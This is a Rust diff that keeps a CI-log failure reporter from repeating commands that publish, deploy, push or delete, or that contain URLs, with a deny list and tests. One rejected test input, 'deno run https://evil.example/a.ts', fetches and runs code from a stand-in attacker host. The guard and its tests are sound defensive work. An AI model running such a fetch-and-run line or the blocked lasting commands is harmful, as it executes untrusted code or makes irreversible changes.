@@ -2,7 +2,8 @@
 //! program that holds the tests, else the whole step that failed.
 //!
 //! The log is a stranger's text, so that a step's command is only repeated when it is one line, starts
-//! a tool that builds or tests or a program of the repository, and holds nothing but plain words.
+//! a tool that builds or tests or a program of the repository, holds nothing but plain words, and none
+//! that publishes, deploys or deletes.
 
 use std::ops::Range;
 
@@ -13,6 +14,12 @@ use super::{Failure, FailureKind, Log, shell_word};
 const COMMAND_BYTES_MAX: usize = 200;
 /// How far below a diagnostic `make` gives up.
 const MAKE_LINES_MAX: usize = 20;
+/// Parts of words that say that a command does more than to build and to test: it reaches other people
+/// or takes something away. Nobody may do that again only to see a failure.
+const LASTING: [&str; 10] = [
+    "delete", "deploy", "destroy", "drop", "prune", "publish", "push", "release", "rollback",
+    "upload",
+];
 /// What builds and tests, as the first word of a command.
 const TOOLS: [&str; 58] = [
     "bazel",
@@ -155,7 +162,8 @@ impl<'a> Commands<'a> {
         };
         let is_outermost = ["make", "gmake"].contains(&tool);
         let is_target = !target.is_empty() && !target.starts_with('-');
-        (is_outermost && is_target).then(|| format!("{tool} {}", shell_word(target)))
+        (is_outermost && is_target && !lasts(target))
+            .then(|| format!("{tool} {}", shell_word(target)))
     }
 }
 
@@ -180,13 +188,31 @@ fn step_command<'a>(log: &'a Log<'_>, start: usize, shown: &'a str) -> Option<&'
 
 fn is_plain(command: &str) -> bool {
     let plain = |byte: u8| byte.is_ascii_alphanumeric() || b" _-./:@%+,=".contains(&byte);
-    if command.len() > COMMAND_BYTES_MAX || !command.bytes().all(plain) {
+    let is_fit = command.len() <= COMMAND_BYTES_MAX && command.bytes().all(plain);
+    if !is_fit || lasts(command) || command.contains("://") {
         return false;
     }
     // Variables may stand before it.
     let program = command.split(' ').find(|word| !word.contains('='));
     let program = program.unwrap_or_default();
     TOOLS.contains(&program) || is_of_repository(program)
+}
+
+/// `npm publish`, `make docker-push`, `scripts/deploy.sh`; not `swift build -c release` or
+/// `npm run test:release`.
+fn lasts(command: &str) -> bool {
+    let words: Vec<&str> = command.split(' ').collect();
+    words.iter().enumerate().any(|(place, word)| {
+        let is_value = place > 0 && words[place - 1].starts_with('-');
+        let name = word.rsplit('/').next().unwrap_or(word);
+        let mut parts = name.split(|letter: char| !letter.is_ascii_alphanumeric());
+        let is_of_option = word.starts_with('-') || is_value && *word == "release";
+        !is_of_option
+            && !parts
+                .clone()
+                .any(|part| ["check", "test", "tests"].contains(&part))
+            && parts.any(|part| LASTING.contains(&part))
+    })
 }
 
 /// `./configure`, `scripts/test`: a path within the repository.
@@ -245,6 +271,10 @@ mod tests {
             "./configure --prefix=/usr",
             "scripts/build.sh all",
             "npm run build",
+            "swift build -c release",
+            "cargo build --release",
+            "npm run test:deploy",
+            "./target/release/tests",
         ] {
             assert_eq!(command(script, BASH, GCC).as_deref(), Some(script));
         }
@@ -259,6 +289,13 @@ mod tests {
             "/opt/evil make",
             "../evil",
             "make $TARGET",
+            "npm publish",
+            "cargo publish",
+            "npm run deploy:prod",
+            "make docker-push",
+            "make release",
+            "scripts/deploy.sh",
+            "deno run https://evil.example/a.ts",
             "",
         ] {
             assert_eq!(command(script, BASH, GCC), None, "{script}");
@@ -284,6 +321,7 @@ mod tests {
             "make[1]: *** [Makefile:12: a.o] Error 1",
             "gmake: *** [CMakeFiles/a.dir/build.make:76: a.o] Error 1",
             "make: *** [Makefile:12: --eval=x] Error 1",
+            "make: *** [Makefile:12: deploy] Error 1",
             "make: *** No rule to make target 'x'.  Stop.",
         ] {
             assert_eq!(told(line), None, "{line}");
